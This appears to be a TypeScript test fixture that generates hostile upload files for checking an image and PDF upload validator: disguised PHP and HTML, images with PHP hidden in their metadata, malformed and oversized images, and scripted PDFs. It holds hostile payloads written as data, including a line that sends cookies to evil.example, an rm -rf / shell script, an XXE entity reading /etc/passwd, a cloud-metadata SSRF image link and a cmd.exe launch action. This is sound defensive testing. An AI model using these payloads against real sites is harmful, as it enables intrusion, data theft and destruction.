import { deflateSync, gzipSync } from "node:zlib";
import { chunk, gradient, png, withChunk, withSegment } from "./pictures.ts";
import { smallPdf } from "./upload.ts";

/** Stands in every file that carries something: it must be in nothing that is stored. */
export const MARK = "<?php system('canary-7f3a'); ?><script>alert(1)</script>";

/** What must become of a file: refused for its type or as damaged, or drawn anew without what it carried. */
type Fate = "type" | "damaged" | "drawn";

export interface HostileFile {
  readonly what: string;
  readonly field: "photo" | "document";
  readonly fate: Fate;
  readonly bytes: Buffer;
}

export async function hostileFiles(): Promise<HostileFile[]> {
  return [
    ...strangers().map(([what, bytes]) => ({ what, field: "photo" as const, fate: "type" as const, bytes })),
    ...(await otherPictures()).map(([what, bytes]) => ({
      what,
      field: "photo" as const,
      fate: "type" as const,
      bytes,
    })),
    ...(await damaged()).map(([what, bytes]) => ({ what, field: "photo" as const, fate: "damaged" as const, bytes })),
    ...(await carriers()).map(([what, bytes]) => ({ what, field: "photo" as const, fate: "drawn" as const, bytes })),
    ...papers().map(([what, bytes]) => ({ what, field: "document" as const, fate: "damaged" as const, bytes })),
    ...strangers()
      .filter(([what]) => !what.startsWith("PDF"))
      .slice(0, 10)
      .map(([what, bytes]) => ({
        what: `${what} as a paper`,
        field: "document" as const,
        fate: "type" as const,
        bytes,
      })),
  ];
}

type Named = readonly [what: string, bytes: Buffer];

/** Other kinds of files that call themselves image/jpeg. */
function strangers(): Named[] {
  const text = (what: string, content: string): Named => [what, Buffer.from(content)];
  const magic = (what: string, hex: string): Named => [
    what,
    Buffer.concat([Buffer.from(hex, "hex"), Buffer.from(MARK)]),
  ];
  return [
    text("PHP", MARK),
    text("HTML", `<!doctype html><title>x</title>${MARK}`),
    text("HTML with a byte order mark", `\uFEFF<html>${MARK}</html>`),
    ["HTML in UTF-16", Buffer.from(`\uFEFF<html>${MARK}`, "utf16le")],
    text("JavaScript", "fetch('//evil.example/'+document.cookie)"),
    text("SVG with a script", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`),
    text("SVG with an outside image", `<?xml version="1.0"?><svg><image href="http://169.254.169.254/"/></svg>`),
    text("XML with an outside entity", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`),
    text("shell script", "#!/bin/sh\nrm -rf /\n"),
    text("CSV with a formula", "=cmd|' /C calc'!A0,1\n"),
    text("JSON", '{"a":1}'),
    text("PostScript", `%!PS-Adobe-3.0 EPSF-3.0\n${MARK}`),
    text("RTF", `{\\rtf1 ${MARK}}`),
    text("ImageMagick script", "push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://evil.example/)'"),
    text("EICAR", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*"),
    ["PDF", smallPdf()],
    ["gzip", gzipSync(MARK)],
    ["random bytes", Buffer.from(Array.from({ length: 400 }, (_, place) => (place * 7919) % 251))],
    magic("Windows program", "4d5a90000300000004000000ffff0000"),
    magic("Linux program", "7f454c4602010100000000000000000002003e00"),
    magic("Java class", "cafebabe00000034"),
    magic("WebAssembly", "0061736d01000000"),
    magic("ZIP", "504b03041400000008000000"),
    magic("RAR", "526172211a0700cf"),
    magic("7z", "377abcaf271c0004"),
    magic("old Office document", "d0cf11e0a1b11ae1"),
    magic("SQLite", "53514c69746520666f726d6174203300"),
    magic("MP3", "494433030000000000"),
    magic("MP4", "00000018667479706d70343200000000"),
    magic("Flash", "4357530a"),
    magic("icon", "00000100010010100000"),
    magic("BMP", "424d8a7b0c0000000000"),
    magic("Photoshop", "384250530001000000000000"),
    magic("HEIC header", "000000186674797068656963000000006d696631"),
    magic("JPEG XL", "0000000c4a584c200d0a870a"),
    magic("font", "774f46320001000000"),
    magic("GIF that is PHP", "474946383961"),
  ];
}

/** True pictures of kinds that nobody asked for. */
async function otherPictures(): Promise<Named[]> {
  const control = Buffer.alloc(26);
  const animation = chunk("acTL", Buffer.from("0000271000000000", "hex"));
  return [
    ["GIF", await gradient().gif().toBuffer()],
    ["WebP", await gradient().webp().toBuffer()],
    ["TIFF", await gradient().tiff().toBuffer()],
    ["AVIF", await gradient(64, 64).avif().toBuffer()],
    ["animated PNG of 10,000 frames", png(64, 64, 1, [animation, chunk("fcTL", control)])],
  ];
}

async function damaged(): Promise<Named[]> {
  const jpeg = await gradient().jpeg().toBuffer();
  const good = await gradient().png().toBuffer();
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  const sized = (height: number, width: number) => {
    const other = Buffer.from(jpeg);
    other.writeUInt16BE(height, frame + 5);
    other.writeUInt16BE(width, frame + 7);
    return other;
  };
  const flipped = Buffer.from(good);
  flipped.writeUInt8(flipped.readUInt8(60) ^ 0xff, 60);
  return [
    ["JPEG cut in half", jpeg.subarray(0, jpeg.length / 2)],
    ["JPEG cut in its header", jpeg.subarray(0, 100)],
    ["JPEG of three bytes", jpeg.subarray(0, 3)],
    ["JPEG that turns into PHP", Buffer.concat([jpeg.subarray(0, 40), Buffer.from(MARK.repeat(20))])],
    ["JPEG that says 65,500 by 65,500", sized(65_500, 65_500)],
    ["JPEG of no height", sized(0, 300)],
    ["JPEG of no width", sized(400, 0)],
    ["PNG cut in half", good.subarray(0, good.length / 2)],
    ["PNG cut in its header", good.subarray(0, 40)],
    ["PNG with a wrong checksum", flipped],
    ["PNG that is HTML", Buffer.concat([good.subarray(0, 33), Buffer.from(MARK.repeat(20))])],
    ["PNG of no width", png(0, 64)],
    ["PNG of one pixel", png(1, 1)],
    ["PNG of 30,000 by 30,000 in one bit", png(30_000, 30_000)],
    ["PNG of 16,000 by 16,000 in full colour", png(16_000, 16_000, 8)],
    ["PNG that says more rows than it has", png(300, 20_000_000)],
  ];
}

/** Good pictures with something in them that must not come through. */
async function carriers(): Promise<Named[]> {
  const jpeg = await gradient().jpeg().toBuffer();
  const good = await gradient().png().toBuffer();
  const after = (picture: Buffer) => Buffer.concat([picture, Buffer.from(MARK)]);
  return [
    ["JPEG with PHP behind it", after(jpeg)],
    ["JPEG with a ZIP behind it", Buffer.concat([jpeg, Buffer.from("504b0304", "hex"), Buffer.from(MARK)])],
    ["JPEG with PHP as its comment", withSegment(jpeg, 0xfe, MARK)],
    ["JPEG with PHP as XMP", withSegment(jpeg, 0xe1, `http://ns.adobe.com/xap/1.0/\0${MARK}`)],
    ["JPEG with PHP as a Photoshop block", withSegment(jpeg, 0xed, `Photoshop 3.0\0${MARK}`)],
    [
      "JPEG with PHP in its EXIF",
      await gradient()
        .withExif({ IFD0: { Artist: MARK } })
        .jpeg()
        .toBuffer(),
    ],
    [
      "JPEG with the place where it was taken",
      await gradient()
        .withExif({ IFD3: { GPSLatitude: "9/1" } })
        .jpeg()
        .toBuffer(),
    ],
    ["JPEG that lies on its side", await gradient().withMetadata({ orientation: 8 }).jpeg().toBuffer()],
    ["progressive JPEG", after(await gradient().jpeg({ progressive: true }).toBuffer())],
    ["JPEG in four inks", after(await gradient().toColourspace("cmyk").jpeg().toBuffer())],
    ["grey JPEG", after(await gradient().greyscale().jpeg().toBuffer())],
    ["PNG with PHP behind it", after(good)],
    ["PNG with PHP as text", withChunk(good, chunk("tEXt", `Comment\0${MARK}`))],
    [
      "PNG with packed PHP as text",
      withChunk(good, chunk("zTXt", Buffer.concat([Buffer.from("C\0\0"), deflateSync(MARK)]))),
    ],
    ["PNG with international PHP as text", withChunk(good, chunk("iTXt", `Comment\0\0\0\0\0${MARK}`))],
    ["PNG with a chunk of its own", withChunk(good, chunk("phPx", MARK))],
    ["PNG in 16 bits", after(await gradient().toColourspace("rgb16").png().toBuffer())],
    ["PNG with a palette", after(await gradient().png({ palette: true, colours: 8 }).toBuffer())],
    ["PNG that one sees through", after(await gradient().ensureAlpha(0.5).png().toBuffer())],
  ];
}

/** PDFs that do more than show pages, and files that only begin like one. */
function papers(): Named[] {
  const packed = (body: Buffer, filter = "/Filter /FlateDecode") =>
    smallPdf(
      `>>\nendobj\n9 0 obj\n<< /Type /ObjStm ${filter} /Length ${body.length} >>\nstream\n${body.toString("latin1")}\nendstream\nendobj\n8 0 obj\n<<`,
    );
  const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
  return [
    ["PDF with a script", smallPdf(`/OpenAction ${script}`)],
    ["PDF with a script in code", smallPdf("/OpenAction << /S /J#61va#53cript /J#53 (x) >>")],
    ["PDF that starts a program", smallPdf("/OpenAction << /S /Launch /F (cmd.exe) >>")],
    ["PDF with a file in it", smallPdf("/Names << /EmbeddedFiles 5 0 R >>")],
    ["PDF with a film", smallPdf("/Annots [<< /Subtype /RichMedia >>]")],
    ["PDF that sends a form", smallPdf("/A << /S /SubmitForm /F (http://evil.example) >>")],
    ["PDF with an XFA form", smallPdf("/AcroForm << /XFA 7 0 R >>")],
    ["PDF that opens another inside it", smallPdf("/A << /S /GoToE >>")],
    ["PDF with a password", smallPdf("/Encrypt 6 0 R")],
    ["PDF with a password in code", smallPdf("/#45ncrypt 6 0 R")],
    ["PDF with a packed script", packed(deflateSync(`1 0 ${script}`))],
    ["PDF with packed objects that do not unpack", packed(Buffer.from("no zlib"))],
    ["PDF packed by something else", packed(deflateSync(script), "/Filter /LZWDecode")],
    ["PDF with unpacked packed objects", packed(Buffer.from(`1 0 ${script}`), "")],
    ["PDF that unpacks to 20 MB", packed(deflateSync(Buffer.alloc(20_000_000)))],
    [
      "PDF with objects in what calls itself a stream",
      smallPdf(`>>\nendobj\n% stream\n7 0 obj\n${script}\nendobj\n% endstream\n8 0 obj\n<<`),
    ],
    [
      "PDF with objects between spaces",
      smallPdf(`>>\nendobj\n% stream\n7  0\tobj\n${script}\nendobj\n% endstream\n8 0 obj\n<<`),
    ],
    [
      "PDF with a number to a line",
      smallPdf(`>>\nendobj\n% stream\n4\n0\nobj${script}endobj\n% endstream\n8 0 obj\n<<`),
    ],
    ["PDF with a remark between numbers", smallPdf(`>>\n% >>stream\n4%\n0%\nobj${script}endobj\n% endstream\n<<`)],
    [
      "PDF with an action about a stream's words",
      smallPdf(`>>\n7 0 obj<<% >>stream\n/S/JavaScript/JS(x)%endstream\n<<`),
    ],
    [
      "PDF with packed objects in a stream's words",
      smallPdf(`>>% >>stream\n7 0 obj<</Type/ObjStm>>stream\n4 0 ${script}\nendstream<<`),
    ],
    ["PDF with a program in it", smallPdf("/A << /Type /F /F (x.exe) /EF << /F 5 0 R >> >>")],
    ["PDF with a program on a page", smallPdf("/Annots [<< /Subtype/FileAttachment/FS 5 0 R >>]")],
    ["PDF without an end", smallPdf().subarray(0, 120)],
    ["PDF of its first line", Buffer.from("%PDF-1.7\n")],
    ["PDF that is HTML", Buffer.from(`%PDF-1.4\n${MARK}\n%%EOF`)],
    ["PDF of nothing but stream words", Buffer.from(`%PDF-1.4\n${">>stream\n".repeat(200_000)}%%EOF`)],
  ];
}
